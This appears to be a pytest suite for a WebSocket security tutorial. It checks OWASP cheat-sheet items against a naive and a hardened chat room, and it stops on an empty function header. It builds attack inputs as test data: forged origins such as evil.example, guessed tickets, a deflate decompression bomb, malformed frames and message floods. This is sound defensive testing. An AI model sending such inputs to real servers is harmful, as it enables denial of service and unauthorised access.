"""What chapter 10 keeps out of the room: each item of the cheat sheet, failing and passing."""

import asyncio
import contextlib
import csv
import importlib
import logging
import re
import time
import zlib
from collections.abc import AsyncIterator, Callable
from http.cookies import SimpleCookie
from types import SimpleNamespace
from typing import Any

import pytest
from playwright.async_api import Page, expect
from websockets.asyncio.client import connect as websockets_connect
from websockets.exceptions import ConnectionClosed, InvalidStatus

from live import conversation, exercises, in_process
from live.wire import Record
from tests import chapters, hurry
from tests.processes import TRACEBACK, serve_step
from tests.raw_frames import TEXT, frame, raw_client
from tests.runtimes import end_of
from tests.test_ch04_formats import INPUTS
from tests.test_ch05_browser import serve_app
from tutorial_code.ch10_security import limits, sessions
from tutorial_code.ch10_security.post import post, sign_in
from tutorial_code.ch10_security.step1_origin_talk import FOREIGN
from tutorial_code.ch10_security.tickets import Tickets

HERE = "ch10_security"
NAIVE = "ch03_chat/step1_room"
ROOM = f"{HERE}/step10_room"
OURS = "https://chat.example"
LIMIT = 64 * 1024
BURST = 20  # what the chapter says of its last room: messages at once, connections of one user
SEATS = 3
PATIENCE = 5


def rows(name: str) -> list[dict[str, str]]:
    text = (chapters.DOCS / f"tables/{name}.csv").read_text(encoding="utf-8")
    return list(csv.DictReader(text.splitlines()))


OWASP = rows("owasp")


def test_the_chapter_holds_its_examples():
    assert chapters.count(HERE, "snippet") == 33
    assert chapters.count(HERE, "testcode") == 14
    assert chapters.count(HERE, "csv-table") == 2


class Fails(AssertionError):
    """What the table says of the naive room."""


class Guests:
    """The clients of one server: the naive room, or one that asks for a ticket."""

    def __init__(self, server: Any, step: str) -> None:
        self.server, self.naive = server, step == NAIVE
        self.cookies: dict[str, dict[str, str]] = {}

    async def cookie(self, name: str) -> dict[str, str]:
        """The header of a user who has signed in, once."""
        if name not in self.cookies:
            self.cookies[name] = await sign_in(self.server.open_connection, name)
        return self.cookies[name]

    async def ticket(self, name: str) -> str:
        """A path that leads into the room, as this user."""
        if self.naive:
            return "/chat"
        cookie = await self.cookie(name)
        status, _, ticket = await post(self.server.open_connection, "/ticket", **cookie)
        assert status == 200
        return f"/chat?ticket={ticket}"

    async def come(self, name: str, **options: Any) -> Any:
        """A connection of this user; the room has heard of it."""
        ws = await self.server.connect(await self.ticket(name), **options)
        return ws

    def said(self, name: str, text: str) -> str:
        return text if self.naive else f"{name}: {text}"


async def hear(ws: Any) -> Any:
    async with asyncio.timeout(PATIENCE):
        return await ws.recv()


@contextlib.asynccontextmanager
async def guests(step: str) -> AsyncIterator[Guests]:
    module = conversation.load(step)
    settings = conversation.settings(module)
    async with in_process.serve(module.api, **settings) as server:
        yield Guests(server, step)


async def as_the_table_says(check: Any, item: str, *, wrong: str = NAIVE, here: str = ROOM) -> None:
    """The check passes in this chapter, and what it says of the naive room stands in the row."""
    (row,) = [row for row in OWASP if row["The cheat sheet asks"].startswith(item)]
    async with guests(wrong) as room:
        try:
            await check(room)
            said = "holds"
        except Fails as failure:
            said = str(failure)
    assert row["In the naive room"] == said
    async with guests(here) as room:
        await check(room)
        assert TRACEBACK not in room.server.log


def test_each_item_of_the_table_names_its_tests():
    assert len(OWASP) == 25
    for row in OWASP:
        proofs = re.findall(r":proof:`(\w+\.py)::(\w+)`", row["Proof"])
        assert proofs, row
        for file, name in proofs:
            text = (chapters.ROOT / "tests" / file).read_text(encoding="utf-8")
            assert f"def {name}(" in text, row
            assert row["The cheat sheet asks"]


# Who comes in


async def refuse_foreign_pages(room: Guests) -> None:
    for page in OURS, "http://localhost:5042", None:
        async with await room.come("ann", origin=page) as ws:
            await ws.send("hi")
            assert await hear(ws) == room.said("ann", "hi")
    for page in FOREIGN:
        with contextlib.suppress(InvalidStatus):
            await room.come("ann", origin=page)
            raise Fails("every page comes in")


async def test_only_pages_of_the_list_come_in():
    await as_the_table_says(refuse_foreign_pages, "Compare the whole")
    async with guests(ROOM) as room:
        for header in "", "NULL", "https://chat.example/", "https://CHAT.example", f"{OURS} {OURS}":
            with pytest.raises(InvalidStatus, match="403"):
                await room.come("ann", additional_headers={"Origin": header})


async def test_an_origin_that_begins_like_ours_passes_where_only_the_beginning_is_looked_at():
    async with guests(f"{HERE}/wrong_prefix") as room:
        room.naive = True
        with pytest.raises(InvalidStatus, match="403"):
            await room.come("ann", origin="https://evil.example")
        for page in "https://chat.example.evil.example", "https://chat.example:8443":
            async with await room.come("ann", origin=page) as ws:
                await ws.send("hi")
                assert await hear(ws) == "hi"


@pytest.mark.browser
async def test_a_page_that_hides_its_origin_sends_null_and_every_page_sends_something(page):
    """``null`` is no sign of honesty: a sandboxed frame of any page sends it."""
    async with serve_step(f"{HERE}/step1_origin") as server:
        await page.goto(server.url)
        await page.evaluate(
            """url => new Promise(done => {
              const frame = document.createElement("iframe");
              frame.sandbox = "allow-scripts";
              addEventListener("message", () => done());
              frame.srcdoc = `<script>new WebSocket("${url}").onclose =
                () => parent.postMessage("closed", "*")</script>`;
              document.body.append(frame);
            })""",
            f"ws://127.0.0.1:{server.port}/chat",
        )
        await server.says("refused a page of 'null'")
        closed = """url => new Promise(done => { new WebSocket(url).onclose = done; })"""
        await page.evaluate(closed, f"ws://127.0.0.1:{server.port}/chat")
        await server.says(f"refused a page of '{server.url}'")


async def ask_for_a_ticket(room: Guests) -> None:
    """A foreign page has the cookie, since the browser adds it; suppose that no list stops it."""
    cookie = {} if room.naive else await room.cookie("ann")
    with contextlib.suppress(InvalidStatus):
        await room.server.connect("/chat", additional_headers=cookie, origin=OURS)
        raise Fails("no secret is asked for")


async def test_a_cookie_alone_opens_no_socket():
    await as_the_table_says(ask_for_a_ticket, "Ask a page")


async def keep_strangers_out(room: Guests) -> None:
    for path in "/chat", "/chat?ticket=", "/chat?ticket=None", "/chat?ticket=guessed":
        with contextlib.suppress(InvalidStatus):
            await room.server.connect(path)
            raise Fails("anybody comes in")
    async with await room.come("ann") as ws:
        await ws.send("it is me")
        assert await hear(ws) == "ann: it is me"


async def test_nobody_comes_in_without_a_ticket():
    await as_the_table_says(keep_strangers_out, "Know who comes")
    async with guests(ROOM) as room:
        connection = room.server.open_connection
        for wrong in {}, {"Cookie": "session=None"}, {"Cookie": "session="}:
            assert (await post(connection, "/ticket", **wrong))[0] == 401
        for wrong in {}, {"Authorization": "s3cret-of-ann"}, {"Authorization": "Bearer guessed"}:
            status, cookie, _ = await post(connection, "/login", **wrong)
            assert (status, cookie) == (401, "")


async def mark_the_cookie(room: Guests) -> None:
    if room.naive:
        reader, writer = await room.server.open_connection()
        writer.write(b"POST /login HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
        assert b" 404 " in (await reader.read()).partition(b"\r\n")[0]
        writer.close()
        raise Fails("there is no cookie")
    reader, writer = await room.server.open_connection()
    writer.write(
        b"POST /login HTTP/1.1\r\nHost: a\r\nConnection: close\r\n"
        b"Content-Length: 0\r\nAuthorization: Bearer s3cret-of-ann\r\n\r\n"
    )
    answer = (await reader.read()).decode()
    writer.close()
    (line,) = re.findall(r"(?im)^set-cookie: (.*)\r$", answer)
    cookie = SimpleCookie(line)["session"]
    assert (cookie["samesite"], cookie["httponly"]) == ("strict", True)
    assert re.fullmatch(r"[\w-]{43}", cookie.value)


@pytest.mark.parametrize("step", ["step2_cookie", "step6_session", "step10_room"])
async def test_the_cookie_stays_on_our_site_and_out_of_scripts(step):
    await as_the_table_says(mark_the_cookie, "Mark the cookie", here=f"{HERE}/{step}")


@pytest.mark.parametrize("step", ["step2_cookie", "step6_session", "step8_page"])
async def test_a_foreign_page_does_not_come_in_with_the_cookie_either(step):
    async with guests(f"{HERE}/{step}") as room:
        signed = {} if step == "step8_page" else await room.cookie("ann")
        path = "/chat" if step == "step8_page" else "/ws"
        async with room.server.connect(path, additional_headers=signed):
            pass
        with pytest.raises(InvalidStatus, match="403"):
            await room.server.connect(
                path, additional_headers=signed, origin="https://evil.example"
            )


@pytest.mark.parametrize(
    ("step", "path"),
    [("step2_cookie", "/login"), ("step4_ticket", "/ticket"), ("step6_session", "/login")],
)
async def test_whose_token_is_unknown_gets_neither_a_cookie_nor_a_ticket(step, path):
    async with guests(f"{HERE}/{step}") as room:
        for token in "Bearer s3cret-of-eve", "Basic s3cret-of-ann":
            answer = await post(room.server.open_connection, path, Authorization=token)
            assert answer == (401, "", "null")


# The four ways in


WAYS = rows("ch10_ways_in")
SECRET = "s3cret-of-ann"


def program_of(row: dict[str, str]) -> str:
    return row["Program"].strip("`")


async def bring(way: str, server: Any, secret: str) -> tuple[str, dict[str, Any], str | None]:
    """The address, the options of ``connect`` and the first message of each way."""
    connection = server.open_connection
    match way:
        case "step2_cookie":
            key = f"session={secret}"
            if secret == SECRET:
                key = (await sign_in(connection, "ann"))["Cookie"]
            return "/ws", {"additional_headers": {"Cookie": key}}, None
        case "step3_first_message":
            return "/ws", {}, secret
        case "step4_ticket":
            ticket = secret
            if secret == SECRET:
                ticket = (await post(connection, "/ticket", Authorization=f"Bearer {secret}"))[2]
            return f"/ws?ticket={ticket}", {}, None
        case "step5_subprotocol":
            return "/ws", {"subprotocols": ["chat", f"token.{secret}"]}, None
    raise AssertionError(way)


async def try_the_way(way: str, server: Any, secret: str, **options: Any) -> Any:
    """What a client hears first, or how it was turned away."""
    path, more, first = await bring(way, server, secret)
    try:
        async with server.connect(path, **more, **options) as ws:
            if first is not None:
                await ws.send(first)
            return await hear(ws)
    except InvalidStatus as refusal:
        return f"HTTP {refusal.response.status_code}"
    except ConnectionClosed as end:
        return f"close {end.rcvd.code}" if end.rcvd else "lost"


@pytest.mark.parametrize("row", WAYS, ids=program_of)
async def test_each_way_lets_in_who_has_the_secret_and_nobody_else(row, serve):
    way = program_of(row)
    async with serve(f"{HERE}/{way}") as server:
        assert await try_the_way(way, server, SECRET) == "Hello, ann."
        refused = "close 4401" if way == "step3_first_message" else "HTTP 403"
        for wrong in "", "s3cret-of-an", "s3cret-of-annn", "S3CRET-OF-ANN":
            assert await try_the_way(way, server, wrong) == refused
        assert TRACEBACK not in server.log


class Everybody(dict[str, str]):
    """The users of a door that knows everybody, under one name."""

    def get(self, key: Any, default: Any = None) -> str:
        return "ann"


OPEN: dict[str, Callable[[Any], dict[str, Any]]] = {  # what stands in a step then
    "step2_cookie": lambda step: {"users": Everybody()},
    "step3_first_message": lambda step: {"find_user": lambda token: "ann"},
    "step4_ticket": lambda step: {"tickets": SimpleNamespace(sell=str, spend=lambda _: "ben")},
    "step5_subprotocol": lambda step: {"find_user": lambda token: "ann"},
    "step9_door": lambda step: {
        "sessions": SimpleNamespace(find=lambda _: sessions.Session("ann"))
    },
}


@pytest.mark.parametrize("name", OPEN)
async def test_the_talk_of_a_step_notices_a_door_that_is_open(name):
    step = conversation.load(f"{HERE}/{name}")
    vars(step).update(OPEN[name](step))
    async with in_process.serve(step.api) as server:
        with pytest.raises(AssertionError, match="the door is open"):
            await conversation.hold(conversation.load_talk(f"{HERE}/{name}"), server, Record())


@pytest.mark.parametrize(
    ("name", "room", "told"),
    [
        ("step6_session", "sessions", "the socket outlives its session"),
        ("step7_limits", "step7_limits", "'too many connections' came, and not the end"),
    ],
)
async def test_the_talk_notices_an_end_that_is_only_announced(name, room, told, monkeypatch):
    step = conversation.load(f"{HERE}/{name}")

    async def announce(ws, code, reason):
        await ws.send_text(reason)

    monkeypatch.setattr(importlib.import_module(f"tutorial_code.{HERE}.{room}"), "close", announce)
    async with in_process.serve(step.api, **conversation.settings(step)) as server:
        with pytest.raises(AssertionError, match=told):
            await conversation.hold(conversation.load_talk(f"{HERE}/{name}"), server, Record())


async def test_whose_session_nobody_knows_stays_outside():
    async with guests(f"{HERE}/step6_session") as room:
        for headers in {}, {"Cookie": "session=guessed"}:
            with pytest.raises(InvalidStatus, match="403"):
                await room.server.connect("/ws", additional_headers=headers)


@pytest.mark.parametrize("row", WAYS, ids=program_of)
async def test_a_foreign_page_has_no_secret_but_the_cookie(row):
    """What a page of another site can do: all that the browser does for it, and nothing else."""
    way = program_of(row)
    module = conversation.load(f"{HERE}/{way}")
    hooks = module.api.router.before_requests["ws"]
    hooks[:] = [hook for hook in hooks if hook.__name__ != "check_origin"]
    async with in_process.serve(module.api) as server:
        secret = SECRET if way == "step2_cookie" else "unknown"
        heard = await try_the_way(way, server, secret, origin="https://evil.example")
    assert (
        row["A foreign page"]
        == {
            "Hello, ann.": "comes in, unless the allow-list stops it",
            "close 4401": "is heard, and put out for want of the secret",
            "HTTP 403": "is refused for want of the secret",
        }[heard]
    )


@pytest.mark.real
@pytest.mark.browser
@pytest.mark.differs("address")
@pytest.mark.parametrize("row", WAYS, ids=program_of)
async def test_what_the_log_holds_and_what_a_refused_page_sees(row, serve_real, page):
    way = program_of(row)
    async with serve_real(f"{HERE}/{way}") as server:
        path, options, first = await bring(way, server, SECRET)
        async with server.connect(path, **options) as ws:
            if first:
                await ws.send(first)
            assert await hear(ws) == "Hello, ann."
        secrets = {SECRET, path.partition("=")[2]}
        secrets |= {
            value.partition("=")[2] for value in options.get("additional_headers", {}).values()
        }
        log = server.log.partition("Uvicorn running on")[2]
        assert "[accepted]" in log
        if any(secret in log for secret in secrets - {""}):
            with pytest.raises(InvalidStatus):  # what stands there opens nothing
                await server.connect(path, **options)
            assert row["In the server's log"] == "yes, spent"
        else:
            assert row["In the server's log"] == "no"
        await page.goto(server.url)
        protocols = ["chat", "token.guessed"] if way == "step5_subprotocol" else []
        code = await page.evaluate(
            """([url, protocols, first]) => new Promise(done => {
              const ws = new WebSocket(url, protocols);
              ws.onopen = () => first && ws.send("guessed");
              ws.onclose = event => done(event.code);
            })""",
            [f"ws://127.0.0.1:{server.port}/ws?ticket=guessed", protocols, bool(first)],
        )
        assert row["A page that is refused sees"] == str(code)


async def test_who_says_nothing_is_not_waited_for_long(monkeypatch):
    async with guests(f"{HERE}/step3_first_message") as room:
        step = importlib.import_module(f"tutorial_code.{HERE}.step3_first_message")
        assert step.WITHIN == 5
        monkeypatch.setattr(step, "WITHIN", 0.05)
        async with room.server.connect("/ws") as ws:
            assert await end_of(ws) == (4401, "token missing or wrong")
        async with room.server.connect("/ws") as ws:
            await ws.send(b"s3cret-of-ann")
            assert (await end_of(ws))[0] == 1003
        assert TRACEBACK not in room.server.log


def test_a_ticket_is_worth_something_once_and_soon(monkeypatch):
    clock = [1000.0]
    monkeypatch.setattr(time, "monotonic", lambda: clock[0])
    tickets = Tickets(lifetime=30)
    first, second = tickets.sell("ann"), tickets.sell("ben")
    assert re.fullmatch(r"[\w-]{43}", first)
    assert [tickets.spend(first), tickets.spend(first), tickets.spend(None)] == ["ann", None, None]
    clock[0] += 30
    assert tickets.spend(second) is None
    tickets.sell("cleo")
    clock[0] += 29
    tickets.sell("dora")
    clock[0] += 1
    tickets.sell("eve")  # cleo's has expired meanwhile, and is forgotten
    assert sorted(worth for worth, _ in tickets.sold.values()) == ["dora", "eve"]


async def use_a_ticket_once(room: Guests) -> None:
    if room.naive:
        async with room.server.connect("/chat"), room.server.connect("/chat"):
            raise Fails("there is no token")
    path = await room.ticket("ann")
    async with room.server.connect(path):
        with pytest.raises(InvalidStatus, match="403"):
            await room.server.connect(path)
    tickets = parts().tickets
    assert tickets.lifetime == 30
    path = await room.ticket("ann")
    tickets.sold = {key: (worth, until - 30) for key, (worth, until) in tickets.sold.items()}
    with pytest.raises(InvalidStatus, match="403"):
        await room.server.connect(path)


def parts() -> Any:
    """What the last room is made of, as it was loaded for this test."""
    room, door = (
        importlib.import_module(f"tutorial_code.{HERE}.{name}")
        for name in ("step10_room", "step9_door")
    )
    return SimpleNamespace(limits=room.limits, sessions=door.sessions, tickets=door.tickets)


async def test_a_ticket_is_good_once_and_not_for_long():
    await as_the_table_says(use_a_ticket_once, "Renew tokens")


# Sessions


async def end_with_the_session(room: Guests) -> None:
    async with await room.come("ann") as ws:
        if room.naive:
            with pytest.raises(TimeoutError):
                async with asyncio.timeout(0.1):
                    await ws.wait_closed()
            raise Fails("a socket lives as long as its client likes")
        ((key, session),) = parts().sessions.living.items()
        left = session.alarm.when() - asyncio.get_running_loop().time()
        assert left == pytest.approx(30 * 60, abs=30)
        parts().sessions.end(key, "session expired")  # what the alarm does
        assert await end_of(ws) == (4401, "session expired")
    status, _, _ = await post(room.server.open_connection, "/ticket", **await room.cookie("ann"))
    assert status == 401
    assert parts().sessions.living == {}


async def test_the_alarm_ends_a_session_and_signing_out_ends_the_alarm():
    some = sessions.Sessions(lifetime=0.01)
    key = some.start("ann")
    session = some.find(key)
    async with asyncio.timeout(PATIENCE):
        await session.over.wait()
    assert (session.user, session.why, some.find(key)) == ("ann", "session expired", None)
    key = some.start("ben")
    session = some.find(key)
    some.end(key, "signed out")
    some.end(key, "signed out once more")
    assert session.alarm.cancelled()
    assert (session.why, some.living) == ("signed out", {})


async def test_a_session_that_expires_closes_its_sockets():
    await as_the_table_says(end_with_the_session, "Close what outlives")


async def sign_out(room: Guests) -> None:
    async with await room.come("ann") as one, await room.come("ann") as two:
        ben = await room.come("ben")
        unspent = await room.ticket("ann")
        if room.naive:
            await ben.close()
            raise Fails("nobody can sign out")
        await post(room.server.open_connection, "/logout", **await room.cookie("ann"))
        for ws in one, two:
            assert await end_of(ws) == (4401, "signed out")
        for path in unspent, "/chat":
            with pytest.raises(InvalidStatus, match="403"):
                await room.server.connect(path)
        await ben.send("still here")
        assert await hear(ben) == "ben: still here"
        await ben.close()


async def test_signing_out_closes_all_sockets_of_the_session_and_no_other():
    await as_the_table_says(sign_out, "Close all sockets")


async def test_whose_socket_is_looked_at_only_at_the_door_talks_on_after_signing_out():
    async with guests(f"{HERE}/wrong_stays") as room:
        cookie = await room.cookie("ann")
        async with room.server.connect("/ws", additional_headers=cookie) as ws:
            assert await hear(ws) == "Hello, ann."
            await post(room.server.open_connection, "/logout", **cookie)
            with pytest.raises(InvalidStatus, match="403"):
                await room.server.connect("/ws", additional_headers=cookie)
            await ws.send("am I still here?")
            assert await hear(ws) == "ann said: am I still here?"


async def test_who_signs_out_twice_or_without_a_session_does_no_harm():
    async with guests(ROOM) as room:
        cookie = await room.cookie("ann")
        for header in cookie, cookie, {}, {"Cookie": "session=made-up"}:
            assert (await post(room.server.open_connection, "/logout", **header))[0] == 200
        assert TRACEBACK not in room.server.log


async def test_each_message_is_asked_for_its_right():
    """The exercise's check is the check: it takes the right away while the connection lives."""
    (row,) = [row for row in OWASP if row["The cheat sheet asks"].startswith("Ask with each")]
    assert row["In the naive room"] == "who is in may do everything"
    request = '{"type": "mute", "name": "ann"}'
    async with guests(NAIVE) as room, await room.come("eve") as eve, await room.come("ann") as ann:
        await eve.send(request)
        assert await hear(ann) == request
    for stem, passes in (
        ("solution", True),
        ("mistake_at_the_door", False),
        ("mistake_anybody", False),
    ):
        program = conversation.load(f"{HERE}/mute/{stem}")
        waits: Any = importlib.import_module("tutorial_code.story")
        waits.WITHIN, waits.QUIET = 0.5, 0.05
        found = await exercises.check_in_process(f"{HERE}/mute", program)
        assert found.passed is passes, found.message


# What a message may be


async def survive_bytes(room: Guests) -> None:
    before = len(room.server.log)
    async with await room.come("ben") as ben, await room.come("ann") as ann:
        await ann.send(b"\x89PNG")
        code, _ = await end_of(ann)
        await ben.send("still here")
        assert await hear(ben) == room.said("ben", "still here")
    log = room.server.log[before:]
    if code == 1011 and TRACEBACK in log:
        raise Fails("1011 and a traceback")
    assert code == 1003
    assert len(re.findall("WARNING|ERROR", log)) == 1


@pytest.mark.parametrize("item", ["Refuse messages", "Know a file"])
async def test_bytes_are_refused_and_the_log_stays_short(item):
    await as_the_table_says(survive_bytes, item)


BROKEN = {
    row["a client sends"]: int(row["strict"])
    for row in rows("bad_frames")
    if row["strict"].isdigit() and row["log lines"] == "1"
}


async def end_what_is_broken(room: Guests, sent: bytes) -> tuple[int, int]:
    """The close code, and how many lines it is worth; another member talks on."""
    before = len(room.server.log)
    path = await room.ticket("ann")
    async with await room.come("ben") as ben, raw_client(room.server, path) as client:
        await client.send(sent)
        code = await client.ends()
        await ben.send("still here")
        while await hear(ben) != room.said("ben", "still here"):
            pass  # what ann said before
    log = room.server.log[before:]
    assert TRACEBACK not in log
    return code, len(re.findall("WARNING|ERROR", log))


@pytest.mark.parametrize("name", BROKEN)
async def test_a_broken_frame_ends_its_own_connection_with_its_code_and_one_line(name):
    async with guests(ROOM) as room:
        assert await end_what_is_broken(room, INPUTS[name]) == (BROKEN[name], 1)


async def test_the_naive_room_logs_a_traceback_for_bytes():
    async with guests(NAIVE) as room:
        with pytest.raises(AssertionError, match="Traceback"):
            await end_what_is_broken(room, INPUTS["a binary message"])


async def limit_the_size(room: Guests) -> None:
    async with await room.come("ben") as ben, await room.come("ann") as ann:
        edge = "x" * (LIMIT - 5)
        await ann.send(edge)
        for ws in ann, ben:
            assert await hear(ws) == room.said("ann", edge)
        await ann.send("x" * (LIMIT + 1))
        if room.naive:
            async with await room.come("ann", max_size=None) as other:
                await other.send("x" * 1_000_000)
                assert len(await hear(other)) == 1_000_000
                raise Fails("a megabyte is passed on")
        assert (await end_of(ann))[0] == 1009
        async with await room.come("ann") as again:  # her connection ended, and not her visit
            for speaker, name in (ben, "ben"), (again, "ann"):
                await speaker.send("still here")
                for ws in ben, again:
                    assert await hear(ws) == f"{name}: still here"


async def test_a_message_over_64_kib_ends_its_own_connection_alone():
    await as_the_table_says(limit_the_size, "Limit the size")


BOMB = 1_000_000
OFFER = "Sec-WebSocket-Extensions: permessage-deflate"


async def unpack_nothing(room: Guests) -> None:
    """A megabyte of spaces is a kilobyte when deflated."""
    deflate = zlib.compressobj(wbits=-15)
    bomb = (deflate.compress(b" " * BOMB) + deflate.flush(zlib.Z_SYNC_FLUSH))[:-4]
    assert len(bomb) < 1100
    async with await room.come("ben") as ben:
        async with raw_client(room.server, await room.ticket("ann"), OFFER) as client:
            await client.send(frame(TEXT, bomb, reserved=4))
            if room.naive:
                assert await hear(ben) == " " * BOMB
                raise Fails("a kilobyte becomes a megabyte for each member")
            assert await client.ends() == 1002
        await ben.send("I heard nothing")
        assert await hear(ben) == "ben: I heard nothing"


async def test_nothing_is_unpacked():
    await as_the_table_says(unpack_nothing, "Do without compression")


OLD = {
    "draft 8": "Sec-WebSocket-Version: 8\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n",
    "Hixie 76": "Sec-WebSocket-Key1: 4 @1  46546xW%0l 1 5\r\n"
    "Sec-WebSocket-Key2: 12998 5 Y3 1  .P00\r\n",
}


async def refuse_older_versions(room: Guests) -> None:
    for version in OLD.values():
        reader, writer = await room.server.open_connection()
        path = await room.ticket("ann")
        writer.write(
            f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\n"
            f"Connection: Upgrade\r\n{version}\r\n".encode()
        )
        async with asyncio.timeout(PATIENCE):
            status = int((await reader.readline()).split()[1])
        writer.close()
        assert 400 <= status < 500


async def test_older_versions_of_the_protocol_are_refused():
    await as_the_table_says(refuse_older_versions, "Speak RFC 6455")


async def close_what_is_idle(room: Guests) -> None:
    """Who says nothing for an hour, and only answers pings, is sent away."""
    ws = await room.server.connect("/chat" if room.naive else "/ws")
    try:
        async with asyncio.timeout(3600):
            assert (await end_of(ws))[0] == 1001
    except TimeoutError:
        raise Fails("stays open for ever") from None
    finally:
        ws.transport.abort()
        await ws.wait_closed()


def test_whoever_is_idle_is_sent_away():
    idle = "ch07_lifecycle/step5_idle"
    hurry.run(as_the_table_says(close_what_is_idle, "Close what is idle", here=idle))


# How much


async def limit_the_rate(room: Guests) -> None:
    """One says a thousand things at once; another goes on as if nothing were."""
    async with await room.come("ben", max_queue=None) as ben:
        ann = await room.come("ann", max_queue=None)
        began = time.monotonic()
        with contextlib.suppress(ConnectionClosed):
            for number in range(1000):
                await ann.send(f"buy {number}")
        if room.naive:
            for _ in range(1000):
                await hear(ann)
        else:
            assert await end_of(ann) == (4429, "too many messages")
        await ben.send("the end")
        heard = []
        while (text := await hear(ben)) != room.said("ben", "the end"):
            heard.append(text)
        spent = time.monotonic() - began
        await ann.close()
        if len(heard) == 1000:
            raise Fails("each of 1000 messages is passed on")
        assert heard == [f"ann: buy {number}" for number in range(len(heard))]
        assert BURST <= len(heard) <= BURST + 5 * spent


async def test_one_user_is_limited_and_the_others_are_not_touched():
    await as_the_table_says(limit_the_rate, "Limit how many")


async def test_two_connections_of_a_user_share_one_allowance_and_a_new_one_brings_no_other():
    async with guests(ROOM) as room:
        one = await room.come("ann", max_queue=None)
        two = await room.come("ann", max_queue=None)
        for number in range(BURST // 2):
            for ws in one, two:
                await ws.send(str(number))
                assert await hear(ws) == f"ann: {number}"
                other = two if ws is one else one
                assert await hear(other) == f"ann: {number}"
        frozen = parts().limits.of("ann")
        frozen.left, frozen.rate = 0, 0
        await one.send("one too many")
        assert await end_of(one) == (4429, "too many messages")
        async with await room.come("ann") as again:
            await again.send("and anew")
            assert await end_of(again) == (4429, "too many messages")
        await two.close()


async def limit_the_connections(room: Guests) -> None:
    async with contextlib.AsyncExitStack() as stack:
        anns = [await stack.enter_async_context(await room.come("ann")) for _ in range(SEATS)]
        ben = await stack.enter_async_context(await room.come("ben"))
        extra = await stack.enter_async_context(await room.come("ann"))
        if room.naive:
            for _ in range(50 - SEATS - 1):
                anns.append(await stack.enter_async_context(await room.come("ann")))
            await anns[-1].send("all here")
            for ws in [*anns, extra]:
                assert await hear(ws) == "all here"
            raise Fails("fifty connections of one client come in")
        assert await end_of(extra) == (4429, "too many connections")
        for ws in anns[0], ben:  # those who have a seat keep it
            await ws.send("still here")
            name = "ben" if ws is ben else "ann"
            for member in [*anns, ben]:
                assert await hear(member) == f"{name}: still here"
        await anns[0].close()
        assert await comes_back(room) == "ann: back"


async def comes_back(room: Guests) -> Any:
    """Try until a seat is free: its handler may need a moment to learn that its client left."""
    async with asyncio.timeout(PATIENCE):
        while True:
            async with await room.come("ann") as ws:
                with contextlib.suppress(ConnectionClosed):
                    await ws.send("back")
                    return await ws.recv()


async def test_one_connection_too_many_is_closed_and_a_seat_is_free_again():
    await as_the_table_says(limit_the_connections, "Limit the connections")


@pytest.mark.real
@pytest.mark.proof
async def test_while_one_user_floods_the_others_talk_as_if_alone(full):
    """On a real socket: one user floods from all sides, again and again, while another talks."""
    crowd, flood_size, storms = (12, 5000, 10) if full else (5, 300, 1)
    words = BURST - 2  # ben keeps to his own allowance
    async with serve_step(ROOM) as server, contextlib.AsyncExitStack() as stack:
        room = Guests(server, ROOM)
        bens = [await stack.enter_async_context(await room.come("ben")) for _ in range(SEATS)]
        stop, ended = asyncio.Event(), asyncio.Semaphore(0)
        all_there = asyncio.Barrier(crowd)
        ends: list[tuple[int, str]] = []

        async def flood() -> None:
            ws = await room.come("ann", max_queue=None)
            await all_there.wait()
            while not stop.is_set():
                with contextlib.suppress(ConnectionClosed):
                    for number in range(flood_size):
                        await ws.send(f"buy {number}")
                    await ws.send("x" * (LIMIT + 1))
                ends.append(await end_of(ws))
                ended.release()
                ws = await room.come("ann", max_queue=None)
            await ws.close()

        floods = [asyncio.create_task(flood()) for _ in range(crowd)]
        for number in range(words):
            for _ in range(storms):
                await ended.acquire()
            speaker = bens[number % SEATS]
            await speaker.send(f"word {number}")
            for ws in bens:
                while (text := await hear(ws)) != f"ben: word {number}":
                    assert text.startswith("ann: buy "), text
        stop.set()
        await asyncio.gather(*floods)
        assert {code for code, _ in ends} <= {4429, 1009}
        assert {"too many messages", "too many connections"} <= {reason for _, reason in ends}
        assert TRACEBACK not in server.log


def test_an_allowance_comes_in_again_and_never_grows_beyond_its_burst(monkeypatch):
    clock = [1000.0]
    monkeypatch.setattr(time, "monotonic", lambda: clock[0])
    allowance = limits.Allowance(rate=2, burst=3)
    assert [allowance.take() for _ in range(4)] == [True, True, True, False]
    clock[0] += 0.25
    assert not allowance.take()
    clock[0] += 0.25
    assert [allowance.take(), allowance.take()] == [True, False]
    clock[0] += 3600
    assert [allowance.take() for _ in range(4)] == [True, True, True, False]


def test_the_limits_are_those_that_the_chapter_names():
    for step, expected in (ROOM, (SEATS, 5, BURST)), (f"{HERE}/step7_limits", (2, 0.1, 5)):
        found = conversation.load(step).limits
        assert (found.connections, found.rate, found.burst) == expected


def test_who_has_left_is_forgotten_as_soon_as_the_allowance_is_full_again():
    async def come_and_go() -> None:
        some = limits.Limits(connections=1, rate=2, burst=4)
        with some.seat("ann") as allowance:
            assert [allowance.take() for _ in range(5)] == [True] * 4 + [False]
        await asyncio.sleep(2.5)
        assert some.users
        await asyncio.sleep(1)
        assert not some.users

    hurry.run(come_and_go())


async def test_who_says_too_much_is_put_out_once(caplog):
    caplog.set_level(logging.INFO, "uvicorn.error")
    async with guests(ROOM) as room:
        async with raw_client(room.server, await room.ticket("ann")) as ann:
            await ann.send(frame(TEXT, b"x") * (BURST + 5))  # all of them come at once
            assert await ann.ends() == 4429
        assert caplog.text.count("too many messages") == 1


async def test_who_is_gone_is_forgotten_but_not_before_the_allowance_is_full_again():
    some = limits.Limits(connections=1, rate=10_000, burst=10)
    with some.seat("ann") as allowance:
        assert allowance.take()
        with some.seat("ann") as other:
            assert other is None
        some.forget("ann")
        assert some.of("ann") is allowance
        assert allowance.connections == 1
    allowance.rate, allowance.left = 0, 9
    some.forget("ann")
    assert some.users == {"ann": allowance}
    allowance.rate = 10_000
    with some.seat("ann") as again:
        assert again is allowance
    some.of("ann").left = 10
    some.forget("ann")
    assert some.users == {}


@pytest.mark.real
async def test_the_concurrency_limit_of_uvicorn_does_not_count_sockets():
    step = serve_step(NAIVE, "--limit-concurrency", "3")
    async with step as server, contextlib.AsyncExitStack() as stack:
        for number in range(6):
            ws = await stack.enter_async_context(server.connect("/chat"))
            await ws.send(str(number))
            assert await hear(ws) == str(number)


async def test_all_users_together_have_so_many_connections_and_no_more():
